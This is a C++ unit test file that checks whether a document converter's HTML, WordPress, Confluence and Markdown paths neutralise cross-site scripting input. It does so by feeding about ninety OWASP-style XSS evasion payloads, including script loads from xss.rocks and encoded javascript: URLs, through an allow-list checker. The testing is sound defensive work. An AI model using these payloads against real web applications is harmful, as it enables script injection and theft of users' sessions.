// The HTML writer's allow-list against XSS filter-evasion vectors (OWASP cheat sheet style), and benign markup kept.
#include <gtest/gtest.h>
#include <libxml/HTMLparser.h>
#include <libxml/tree.h>

#include <algorithm>
#include <cctype>
#include <regex>
#include <set>

#include "convert/confluence/confluence_reader.hpp"
#include "convert/html/html_reader.hpp"
#include "convert/html/html_writer.hpp"
#include "convert/markdown/markdown_writer.hpp"
#include "convert/url_policy.hpp"
#include "convert/wordpress/wordpress_reader.hpp"

namespace baton::test {

namespace {

// Inputs after the OWASP XSS Filter Evasion Cheat Sheet and later browser-specific vectors: script and
// style elements, event handlers, javascript:/vbscript:/data: URLs in every encoding and case, broken markup.
const std::vector<std::string>& xss_vectors() {
    static const std::vector<std::string> vectors = {
        R"~(<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>)~",
        R"~(<IMG SRC="javascript:alert('XSS');">)~",
        R"~(<IMG SRC=javascript:alert('XSS')>)~",
        R"~(<IMG SRC=JaVaScRiPt:alert('XSS')>)~",
        R"~(<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>)~",
        R"~(<a onmouseover="alert(document.cookie)">xxs link</a>)~",
        R"~(<a onmouseover=alert(document.cookie)>xxs link</a>)~",
        R"~(<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>)~",
        R"~(<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>)~",
        R"~(<IMG SRC=# onmouseover="alert('xxs')">)~",
        R"~(<IMG SRC= onmouseover="alert('xxs')">)~",
        R"~(<IMG onmouseover="alert('xxs')">)~",
        R"~(<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>)~",
        R"~(<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">)~",
        R"~(<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>)~",
        R"~(<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>)~",
        R"~(<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>)~",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        R"~(<IMG SRC="jav&#x09;ascript:alert('XSS');">)~",
        R"~(<IMG SRC="jav&#x0A;ascript:alert('XSS');">)~",
        R"~(<IMG SRC="jav&#x0D;ascript:alert('XSS');">)~",
        R"~(<IMG SRC=" &#14;  javascript:alert('XSS');">)~",
        R"~(<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>)~",
        R"~(<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>)~",
        R"~(<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>)~",
        R"~(<<SCRIPT>alert("XSS");//\<</SCRIPT>)~",
        R"~(<SCRIPT SRC=http://xss.rocks/xss.js?< B >)~",
        R"~(<SCRIPT SRC=//xss.rocks/.j>)~",
        R"~(<IMG SRC="`<javascript:alert>`('XSS')")~",
        R"~(<iframe src=http://xss.rocks/scriptlet.html <)~",
        R"~(</TITLE><SCRIPT>alert("XSS");</SCRIPT>)~",
        R"~(<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">)~",
        R"~(<BODY BACKGROUND="javascript:alert('XSS')">)~",
        R"~(<IMG DYNSRC="javascript:alert('XSS')">)~",
        R"~(<IMG LOWSRC="javascript:alert('XSS')">)~",
        R"~(<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>)~",
        R"~(<IMG SRC='vbscript:msgbox("XSS")'>)~",
        R"~(<IMG SRC="livescript:[code]">)~",
        R"~(<svg/onload=alert('XSS')>)~",
        R"~(<BODY ONLOAD=alert('XSS')>)~",
        R"~(<BGSOUND SRC="javascript:alert('XSS');">)~",
        R"~(<BR SIZE="&{alert('XSS')}">)~",
        R"~(<LINK REL="stylesheet" HREF="javascript:alert('XSS');">)~",
        R"~(<STYLE>@import'http://xss.rocks/xss.css';</STYLE>)~",
        R"~(<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">)~",
        R"~(<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>)~",
        R"~(<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">)~",
        R"~(<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">)~",
        R"~(<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">)~",
        R"~(<IFRAME SRC="javascript:alert('XSS');"></IFRAME>)~",
        R"~(<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>)~",
        R"~(<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>)~",
        R"~(<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD>a</TD><TD>b</TD></TR></TABLE>)~",
        R"~(<TABLE><TD BACKGROUND="javascript:alert('XSS')">a</TD><TD>b</TD></TABLE>)~",
        R"~(<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>)~",
        R"~(<DIV STYLE="width: expression(alert('XSS'));">x</DIV>)~",
        R"~(<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->)~",
        R"~(<![if !IE]><SCRIPT>alert('XSS');</SCRIPT><![endif]>)~",
        R"~(<BASE HREF="javascript:alert('XSS');//">)~",
        R"~(<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>)~",
        R"~(<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>)~",
        R"~(<a href="javascript&colon;alert(1)">x</a>)~",
        R"~(<a href="&#106avascript:alert(1)">x</a>)~",
        R"~(<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>)~",
        R"~(<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">)~",
        R"~(<a href=" javascript:alert(1)">x</a>)~",
        "<a href=\"java\x01script:alert(1)\">x</a>",
        R"~(<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>)~",
        R"~(<noscript><p title="</noscript><img src=x onerror=alert(1)>">)~",
        R"~(<a href="JAVASCRIPT:alert(1)">x</a>)~",
        R"~(<x onclick=alert(1)>click</x>)~",
        R"~(<details open ontoggle=alert(1)>)~",
        R"~(<video><source onerror=alert(1)></video>)~",
        R"~(<form action="javascript:alert(1)"><input type=submit></form>)~",
        R"~(<isindex action="javascript:alert(1)" type=image>)~",
        R"~(<p style="behavior:url(xss.htc)">x</p>)~",
        R"~(<a href="vbscript:msgbox(1)">x</a>)~",
        R"~(<img src=x:alert(alt) onerror=eval(src) alt=0>)~",
        R"~(<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>)~",
        R"~(<a href="jav&#x09;ascript:alert(1)">x</a>)~",
        R"~(<div><a href=javas&#99;ript:alert(1)>x</a></div>)~",
        R"~(<a href="  &#x20;javascript:alert(1)">x</a>)~",
        R"~(<a href="&#14;javascript:alert(1)">x</a>)~",
        R"~(<a href="javascript://%0Aalert(1)">x</a>)~",
        R"~(<img src="x" alt="&quot; onerror=&quot;alert(1)">)~",
        R"~(<a title="&quot;><script>alert(1)</script>" href="/x">x</a>)~",
        R"~(<h1 onclick="alert(1)" id="x">t</h1><td onmouseover=alert(1)>c</td>)~",
        R"~(<pre><code class="language-x onclick=alert(1)">code</code></pre>)~",
        R"~(<p>text<script>document.write('<img src=x onerror=alert(1)>')</script></p>)~",
        R"~(<template><img src=x onerror=alert(1)></template>)~",
        R"~(<textarea><img src=x onerror=alert(1)></textarea>)~",
        R"~(<select><option><img src=x onerror=alert(1)></option></select>)~",
        R"~(<ul><li onclick=alert(1)>a</li></ul><ol start="1 onclick=alert(1)"><li>b</li></ol>)~",
    };
    return vectors;
}

std::string lower(std::string text) {
    std::transform(text.begin(), text.end(), text.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    return text;
}

// The elements and attributes the HTML writer may emit: anything else in its output is a finding.
const std::set<std::string> allowed_elements = {"html", "body", "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol",
                                                "dl", "li", "dt", "dd", "table", "tr", "th", "td", "pre", "code",
                                                "blockquote", "hr", "em", "strong", "a", "img", "br", "caption"};
const std::set<std::string> allowed_attributes = {"href", "src", "alt", "title", "lang", "dir", "width", "height",
                                                  "colspan", "rowspan", "start", "class", "data-format",
                                                  "data-reason"};

std::string strip_controls(std::string text) {
    std::string out;
    for (const char c : text) {
        if (static_cast<unsigned char>(c) > 0x20) out += c;
    }
    return lower(out);
}

void check_tree(const xmlNode* node, const std::string& input) {
    for (; node; node = node->next) {
        if (node->type != XML_ELEMENT_NODE) continue;
        const std::string name = reinterpret_cast<const char*>(node->name);
        EXPECT_TRUE(allowed_elements.count(name)) << "element <" << name << "> from " << input;
        for (const xmlAttr* attribute = node->properties; attribute; attribute = attribute->next) {
            const std::string attribute_name = reinterpret_cast<const char*>(attribute->name);
            EXPECT_TRUE(allowed_attributes.count(attribute_name)) << attribute_name << " on <" << name << "> from " << input;
            xmlChar* value = xmlNodeGetContent(reinterpret_cast<const xmlNode*>(attribute));
            const std::string text = value ? strip_controls(reinterpret_cast<const char*>(value)) : "";
            xmlFree(value);
            if (attribute_name == "href" || attribute_name == "src") {
                EXPECT_FALSE(text.starts_with("javascript:") || text.starts_with("vbscript:") ||
                             text.starts_with("livescript:"))
                    << text << " from " << input;
                if (text.starts_with("data:")) {
                    EXPECT_TRUE(name == "img" && text.starts_with("data:image/") && !text.starts_with("data:image/svg"))
                        << text << " from " << input;
                }
            }
            if (attribute_name == "class") {
                EXPECT_TRUE(text == "baton-raw" || text.starts_with("language-")) << text << " from " << input;
            }
        }
        check_tree(node->children, input);
    }
}

// Parses the writer's output as a browser would and checks every element, attribute and URL in it.
void expect_inert(const std::string& html, const std::string& input) {
    const std::string text = lower(html);
    EXPECT_EQ(text.find("<script"), std::string::npos) << html << "\nfrom " << input;
    EXPECT_EQ(text.find("javascript:"), std::string::npos) << html << "\nfrom " << input;
    EXPECT_EQ(text.find("vbscript:"), std::string::npos) << html << "\nfrom " << input;
    // An event handler attribute: "on...=" inside a tag, outside quoted (escaped) attribute values.
    const std::string unquoted = std::regex_replace(text, std::regex(R"("[^"]*")"), "\"\"");
    EXPECT_FALSE(std::regex_search(unquoted, std::regex(R"(<[^>]*\son[a-z]+\s*=)"))) << html << "\nfrom " << input;
    if (html.empty()) return;
    xmlDoc* doc = htmlReadMemory(html.data(), static_cast<int>(html.size()), nullptr, "UTF-8",
                                 HTML_PARSE_NONET | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);
    ASSERT_NE(doc, nullptr);
    check_tree(xmlDocGetRootElement(doc), input);
    xmlFreeDoc(doc);
}

}  // namespace

TEST(Sanitiser, EveryXssVectorIsInertThroughTheHtmlReaderAndWriter) {
    ASSERT_GE(xss_vectors().size(), 90u);
    for (const auto& vector : xss_vectors()) expect_inert(convert::write_html(convert::read_html(vector)), vector);
}

TEST(Sanitiser, EveryXssVectorIsInertThroughTheWordPressReader) {
    for (const auto& vector : xss_vectors()) {
        expect_inert(convert::write_html(convert::read_wordpress(vector + "\n\n[caption]" + vector + " text[/caption]")),
                     vector);
    }
}

TEST(Sanitiser, EveryXssVectorIsInertThroughTheConfluenceReader) {
    for (const auto& vector : xss_vectors()) {
        std::string attribute;  // the vector as an attribute value, escaped as storage format writes it
        for (const char c : vector) {
            attribute += c == '"' ? std::string("&quot;") : c == '<' ? std::string("&lt;") : c == '&' ? std::string("&amp;")
                                                                                                : std::string(1, c);
        }
        const std::string storage = "<ac:structured-macro ac:name=\"info\"><ac:rich-text-body>" + vector +
                                    "</ac:rich-text-body></ac:structured-macro><ac:link><ri:url ri:value=\"" + attribute +
                                    "\" /></ac:link><ac:image><ri:url ri:value=\"" + attribute + "\" /></ac:image>";
        expect_inert(convert::write_html(convert::read_confluence(storage)), vector);
    }
    // CDATA (code bodies) is text by definition: markup in it comes out escaped, never as elements.
    const std::string code = convert::write_html(convert::read_confluence(
        "<ac:structured-macro ac:name=\"code\"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]>"
        "</ac:plain-text-body></ac:structured-macro>"));
    EXPECT_EQ(code, "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>\n");
}

TEST(Sanitiser, MarkdownOutputCarriesNoScriptUrlsOrRawHtml) {
    for (const auto& vector : xss_vectors()) {
        const std::string markdown = lower(convert::write_markdown(convert::read_html(vector)));
        EXPECT_EQ(markdown.find("javascript:"), std::string::npos) << markdown << "\nfrom " << vector;
        EXPECT_EQ(markdown.find("vbscript:"), std::string::npos) << markdown << "\nfrom " << vector;
        // Every '<' outside code is escaped, so no HTML reaches a Markdown renderer.
        for (std::size_t at = markdown.find('<'); at != std::string::npos; at = markdown.find('<', at + 1)) {
            EXPECT_TRUE(at > 0 && markdown[at - 1] == '\\') << markdown << "\nfrom " << vector;
        }
    }
}

TEST(Sanitiser, UrlPolicy) {
    using convert::safe_url;
    using convert::UrlUse;
    EXPECT_EQ(safe_url("https://example.org/a?b=1", UrlUse::link), "https://example.org/a?b=1");
    EXPECT_EQ(safe_url("/relative/path#frag", UrlUse::link), "/relative/path#frag");
    EXPECT_EQ(safe_url("page:with-colon/after-slash", UrlUse::link), std::nullopt);
    EXPECT_EQ(safe_url("Help/a:b", UrlUse::link), "Help/a:b");
    EXPECT_EQ(safe_url("mailto:a@example.org", UrlUse::link), "mailto:a@example.org");
    EXPECT_EQ(safe_url("JaVaScRiPt:alert(1)", UrlUse::link), std::nullopt);
    EXPECT_EQ(safe_url("java\tscript:alert(1)", UrlUse::link), std::nullopt);
    EXPECT_EQ(safe_url("data:image/png;base64,iVBORw0KGgo=", UrlUse::image), "data:image/png;base64,iVBORw0KGgo=");
    EXPECT_EQ(safe_url("data:image/png;base64,iVBORw0KGgo=", UrlUse::link), std::nullopt);
    EXPECT_EQ(safe_url("data:image/svg+xml;base64,PHN2Zz4=", UrlUse::image), std::nullopt);
    EXPECT_EQ(safe_url("data:text/html,<script>", UrlUse::image), std::nullopt);
    EXPECT_EQ(safe_url("page#x\"onclick=", UrlUse::link), std::nullopt);
    EXPECT_EQ(safe_url("/go?to=javascript:alert(1)", UrlUse::link), std::nullopt);
}

TEST(Sanitiser, BenignMarkupIsKept) {
    const std::string input =
        R"~(<h2 title="T">Title</h2><p>Hello <b>bold</b> <i>it</i> <code>a&lt;b</code> )~"
        R"~(<a href="https://x.org/a?b=1&amp;c=2" title="t">link</a> <img src="/i.png" alt="A" width="20"><br>)~"
        R"~(<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"> <a href="mailto:me@example.org">mail</a></p>)~"
        R"~(<ul><li>one</li><li>two<ol start="3"><li>three</li></ol></li></ul>)~"
        R"~(<table><tr><th>h</th><th>i</th></tr><tr><td colspan="2">c &amp; d</td></tr></table>)~"
        R"~(<blockquote><p>q</p></blockquote><pre>x &lt; y</pre><hr>)~";
    const std::string html = convert::write_html(convert::read_html(input));
    for (const char* kept : {"<h2 title=\"T\">Title</h2>", "<strong>bold</strong>", "<em>it</em>",
                             "<code>a&lt;b</code>", "<a href=\"https://x.org/a?b=1&amp;c=2\" title=\"t\">link</a>",
                             "<img src=\"/i.png\" alt=\"A\" width=\"20\">", "<br>",
                             "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
                             "<a href=\"mailto:me@example.org\">mail</a>", "<li>one</li>", "<ol start=\"3\">",
                             "<th>h</th>", "<td colspan=\"2\">c &amp; d</td>", "<blockquote>", "<pre><code>x &lt; y</code></pre>",
                             "<hr>"}) {
        EXPECT_NE(html.find(kept), std::string::npos) << kept << " missing from\n" << html;
    }
}

}  // namespace baton::test
